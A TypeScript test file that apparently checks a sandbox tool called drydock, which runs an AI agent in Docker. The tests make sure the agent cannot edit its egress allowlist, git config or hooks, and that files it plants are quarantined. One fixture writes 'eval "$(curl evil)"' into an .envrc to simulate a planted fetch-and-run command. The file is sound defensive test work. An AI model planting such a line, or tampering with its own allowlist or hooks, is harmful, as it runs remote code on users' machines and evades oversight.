import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { run } from '../../lib/commands/run.js';
import { UsageError } from '../../lib/errors.js';
import { runWorld, scriptSession, suffixes } from '../session/run-fixture.js';

const ID = 'myapp-aaaa';
const deps = (w: ReturnType<typeof runWorld>) => ({ runner: w.fake, signals: w.signals, clock: w.clock, tty: false, random: suffixes('aaaa'), hostname: 'host', pid: 4242 });

describe('run: what the agent must not be able to edit', () => {
  it('refuses a project allowlist that is a symlink into the project, before any docker call (exit 2)', async () => {
    const w = runWorld();
    const project = w.ctx.cwd;
    writeFileSync(join(project, 'allow'), 'evil.test\n');
    symlinkSync(join(project, 'allow'), join(w.root, 'config', 'egress-allowlist-myapp'));
    const error = await run({ cmd: ['true'] }, w.ctx, deps(w)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UsageError);
    expect((error as UsageError).exitCode).toBe(2);
    expect((error as UsageError).message).toMatch(/the allowlist .*egress-allowlist-myapp \(through a symlink: .*myapp\/allow\) is inside the project directory/);
    expect(w.fake.calls).toEqual([]);
  });

  it('refuses a state dir inside the project', async () => {
    const w = runWorld();
    const ctx = { ...w.ctx, env: { ...w.ctx.env, DRYDOCK_STATE_DIR: join(w.ctx.cwd, '.drydock-state') } };
    await expect(run({ cmd: ['true'] }, ctx, deps(w))).rejects.toThrow(/the state dir .*\.drydock-state is inside the project directory/);
    expect(w.fake.calls).toEqual([]);
  });
});

describe('run: the workspace guard', () => {
  it('mounts .git writable and .git/config and hooks read-only, and lists what the session planted', async () => {
    const w = runWorld();
    const project = w.ctx.cwd;
    mkdirSync(join(project, '.git', 'hooks'), { recursive: true });
    writeFileSync(join(project, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    writeFileSync(join(project, '.git', 'config'), '[core]\n');
    scriptSession(w.fake, w.sessionDir, {
      id: ID,
      execArgv: ['docker', 'exec', '-i', `drydock-${ID}`, 'true'],
      // The "agent" writes an .envrc while it runs.
      exec: { result: { code: 0 } },
    });
    const original = w.fake.run.bind(w.fake);
    w.fake.run = async (argv, options) => {
      if (argv[1] === 'exec') writeFileSync(join(project, '.envrc'), 'eval "$(curl evil)"\n');
      return original(argv, options);
    };
    const result = await run({ cmd: ['true'], json: true }, w.ctx, deps(w));
    expect(result.exitCode).toBe(0);
    const base = readFileSync(join(w.sessionDir(ID), 'docker-compose.yml'), 'utf8');
    expect(base).toContain(`target: /workspace/.git\n`);
    expect(base).toMatch(/source: .*myapp\/\.git\/config\n\s+target: \/workspace\/\.git\/config\n\s+read_only: true/);
    expect(base).toMatch(/target: \/workspace\/\.git\/hooks\n\s+read_only: true/);
    expect(w.stderr()).toMatch(/workspace guard: read-only for the agent: \.git\/config, \.git\/hooks/);
    expect(w.stderr()).toMatch(/created {2}\.envrc — quarantined to .*state\/quarantine\/myapp-aaaa\/\.envrc/);
    expect((result.data as { workspace: { quarantined: unknown[] } }).workspace.quarantined).toEqual([{ path: '.envrc', movedTo: join(w.state, 'quarantine', ID, '.envrc') }]);
    // run finished the guard itself: nothing is left for gc to redo.
    expect(existsSync(join(w.sessionDir(ID), 'workspace-guard.json'))).toBe(false);
  });

  it('--no-workspace-guard mounts nothing extra and says so in the banner', async () => {
    const w = runWorld();
    mkdirSync(join(w.ctx.cwd, '.git'), { recursive: true });
    writeFileSync(join(w.ctx.cwd, '.git', 'config'), '');
    scriptSession(w.fake, w.sessionDir, { id: ID, exec: { result: { code: 0 } } });
    await run({ cmd: ['true'], workspaceGuard: false }, w.ctx, deps(w));
    expect(readFileSync(join(w.sessionDir(ID), 'docker-compose.yml'), 'utf8')).not.toContain('/workspace/.git');
    expect(w.stderr()).toMatch(/WARNING: workspace guard OFF \(--no-workspace-guard\)/);
  });
});
